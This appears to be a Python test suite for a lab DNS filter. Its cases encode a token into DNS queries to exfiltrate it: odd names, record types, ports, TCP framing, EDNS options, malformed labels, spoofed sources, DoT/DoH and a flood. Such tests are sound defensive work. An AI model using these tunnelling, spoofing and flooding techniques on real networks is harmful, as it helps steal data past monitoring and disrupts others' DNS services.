"""DNS as a tunnel: data of the PC in queries."""

import random
import struct

import hostile
import net
import topology as t

attack = hostile.Table()
A, TXT, OPT = 1, 16, 41
TYPES = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "NAPTR": 35, "DS": 43,
         "SVCB": 64, "HTTPS": 65, "SPF": 99, "AXFR": 252, "ANY": 255, "URI": 256, "private": 65400}


def wire(name):
    """A name as DNS has it; a label may be given as bytes."""
    labels = name.split(".") if isinstance(name, str) else name
    return b"".join(bytes([len(x)]) + x for x in (x if isinstance(x, bytes) else x.encode() for x in labels) if x) + b"\0"


def question(name, kind=A, flags=0x0100, cls=1, counts=(1, 0, 0, 0), tail=b"", number=None):
    qname = name if isinstance(name, bytes) else wire(name)
    return struct.pack(">HHHHHH", random.getrandbits(16) if number is None else number, flags, *counts) + qname + \
        struct.pack(">HH", kind, cls) + tail


def record(name, kind, data, ttl=60, cls=1):
    return wire(name) + struct.pack(">HHIH", kind, cls, ttl, len(data)) + data


def options(*pairs):
    """An OPT record with these options."""
    data = b"".join(struct.pack(">HH", code, len(value)) + value for code, value in pairs)
    return b"\0" + struct.pack(">HHIH", OPT, 1232, 0, len(data)) + data


def ask(h, message, server=t.BOX_LAN, port=53):
    h.send(h.ip(server) / h.udp(port) / message)


def long_labels(h):
    return ".".join([(h.token * 8)[:63]] * 3)


@attack("names with words in them, on nobody's list: short, long, deep, below listed names")
def words_in_names(h):
    for tail in ("example.com", "lab.example", t.REGISTRY_NAME, t.FORMS_NAME, "example", ""):
        for head in (h.token, (h.token * 8)[:63], ".".join([h.token] * 12), long_labels(h), f"{h.token}.{h.token}"):
            ask(h, question(f"{head}.{tail}"))


@attack("the same by types of all kinds: TXT, NULL, CNAME, MX, SRV, HTTPS, ANY, AXFR, private ones")
def words_by_types(h):
    for kind in TYPES.values():
        for tail in ("example.com", t.REGISTRY_NAME):
            ask(h, question(f"{h.token}.{tail}", kind))


@attack("the same to other DNS servers: on the internet, the line's, the registry's, none at all")
def words_to_other_servers(h):
    for server in (t.OTHER_DNS, t.ISP, t.INNER_DNS, t.DECOY, t.HUB, "192.0.2.53"):
        for kind in (A, TXT):
            ask(h, question(f"{h.token}.example.com", kind), server)


@attack("DNS at other ports: 5353, 853, 54, 5300, 8053, 443, by UDP and TCP, to DNS servers that answer there")
def other_ports(h):
    for server in (t.OTHER_DNS, t.INNER_DNS, t.BOX_LAN):
        for port in (5353, 853, 54, 5300, 8053, 443):
            ask(h, question(f"{h.token}.example.com"), server, port)
            h.send(h.syn(server, port))


def _tcp(h, server, *messages):
    """Over TCP: each message with its length, or bytes as they are."""
    flow = h.flow(server, 53)
    if not flow.open():
        return
    at = 0
    for m in messages:
        flow.send(at, m)
        at += len(m)


def _framed(message):
    return struct.pack(">H", len(message)) + message


@attack("DNS over TCP: alone, several at once, byte by byte, with lengths that lie; to the box and to others")
def words_by_tcp(h):
    message = _framed(question(f"{h.token}.example.com", TXT))
    for server in (t.BOX_LAN, t.OTHER_DNS, t.INNER_DNS):
        _tcp(h, server, message)
        _tcp(h, server, message + message + _framed(question(long_labels(h))))
        _tcp(h, server, *[message[n:n + 1] for n in range(len(message))])
        _tcp(h, server, b"\xff\xff" + message)
        _tcp(h, server, b"\0\1" + message, b"\0\0" + message)
        _tcp(h, server, b"POST /dns-query HTTP/1.1\r\nHost: " + h.word + b"\r\n\r\n")


@attack("words in EDNS options of a listed name's question: private, cookie, subnet, padding, NSID")
def words_in_options(h):
    for n, (code, value) in enumerate(((65001, h.data(64)), (10, h.word), (8, b"\0\1\x20\0" + h.word[:4]), (12, h.data(64)), (3, h.word))):
        ask(h, question(f"fresh-{n}.lab.example", counts=(1, 0, 0, 1), tail=options((code, value), (65002, h.word))))


@attack("words in further records and further questions of a listed name's question, and behind its end")
def words_behind(h):
    more = record(f"{h.token}.example.com", TXT, b"\x08" + h.word)
    second = wire(f"{h.token}.example.com") + b"\0\1\0\1"
    for n, (counts, tail) in enumerate((((1, 1, 0, 0), more), ((1, 0, 1, 0), more), ((1, 0, 0, 1), more), ((2, 0, 0, 0), second),
                                        ((1, 0, 0, 0), h.data(64)), ((1, 0, 0, 2), options((65001, h.word)) + more))):
        ask(h, question(f"fresh-{10 + n}.lab.example", counts=counts, tail=tail))


@attack("other operations: inverse, status, notify, update, stateful; classes CH, HS, ANY; answers instead of questions")
def words_by_operation(h):
    for operation in (1, 2, 4, 5, 6, 15):
        ask(h, question(f"{h.token}.example.com", flags=operation << 11))
        ask(h, question("lab.example", 6, flags=operation << 11, counts=(1, 0, 1, 0), tail=record(f"{h.token}.lab.example", TXT, b"\x08" + h.word)))
    for cls in (3, 4, 254, 255, 0x8001):
        ask(h, question(f"{h.token}.example.com", TXT, cls=cls))
        ask(h, question(t.REGISTRY_NAME, TXT, cls=cls, counts=(1, 0, 0, 1), tail=options((65001, h.word))))
    ask(h, question(t.REGISTRY_NAME, flags=0x8180, counts=(1, 1, 0, 0), tail=record(f"{h.token}.example", A, b"\x0a\x14\0\x51")))


@attack("names that are written oddly: dots inside a label, NULs, pointers, loops, nothing")
def odd_names(h):
    dotted = bytes([len(t.REGISTRY_NAME)]) + t.REGISTRY_NAME.encode()
    for name in (dotted + b"\x08" + h.word + b"\0", wire(["registry\0" + h.token, "lab", "example"]),
                 wire([h.token + ".registry", "lab", "example"]), b"\x08" + h.word + b"\xc0\x0c", b"\xc0\x0c", b"\x08" + h.word + b"\xc0\xff",
                 b"\x40" + h.word + b"\0", b"\x41\x08" + h.word + b"\0", b"\x08" + h.word + dotted + b"\0",
                 wire(["registry", "lab", "example" + h.token]), wire(["registry", "lab", "example", h.token])):
        ask(h, question(name))


@attack("upper and lower case as a message: the registry's server must not see how the PC wrote a name",
        match=lambda p: b"\x08FrEsH-20\x03LaB\x07ExAmPlE" in p.raw)
def case_as_message(h):
    ask(h, question(wire(["FrEsH-20", "LaB", "ExAmPlE"])))


@attack("reverse questions with words, and for addresses behind the hub")
def reverse_names(h):
    for tail in ("in-addr.arpa", "80.0.20.10.in-addr.arpa", "ip6.arpa"):
        ask(h, question(f"{h.token}.{tail}", TYPES["PTR"]))


@attack("questions in the name of others: another PC, the box, the registry's server, loopback")
def forged_questions(h):
    for source in ("192.168.77.99", t.BOX_LAN, t.INNER_DNS, t.ISP, "127.0.0.1", "0.0.0.0"):
        for server in (t.BOX_LAN, t.OTHER_DNS, t.INNER_DNS):
            h.send(h.ip(server, source) / h.udp(53) / question(f"{h.token}.example.com", TXT))


@attack("DoT and DoH by real programs: openssl to port 853, curl with --doh-url",
        match=lambda p: p.proto == 6 and p.dst == t.OTHER_DNS and p.dport in (853, 8443))
def real_dot_doh(h):
    net.run("lan", ["timeout", "3", "openssl", "s_client", "-connect", f"{t.OTHER_DNS}:853"], text="")
    net.run("lan", ["curl", "-s", "-m", "3", "--doh-insecure", "--doh-url", f"https://{t.OTHER_DNS}:8443/dns-query", "https://www.example/"])


@attack("a flood of 1500 questions for names with words in them",
        sound=("a listed name right after it", lambda h: (f"NOERROR {t.REGISTRY}", h.answer)))
def flood(h):
    frames = [bytes(h.lan.frame(h.ip(t.BOX_LAN) / h.udp(53) / question(f"{h.token}-{n}.example.com", TXT))) for n in range(100)]
    for _ in range(15):
        h.send(*frames)
    h.answer = str(h.lab.pc.dns("fresh-21.lab.example", timeout=20))
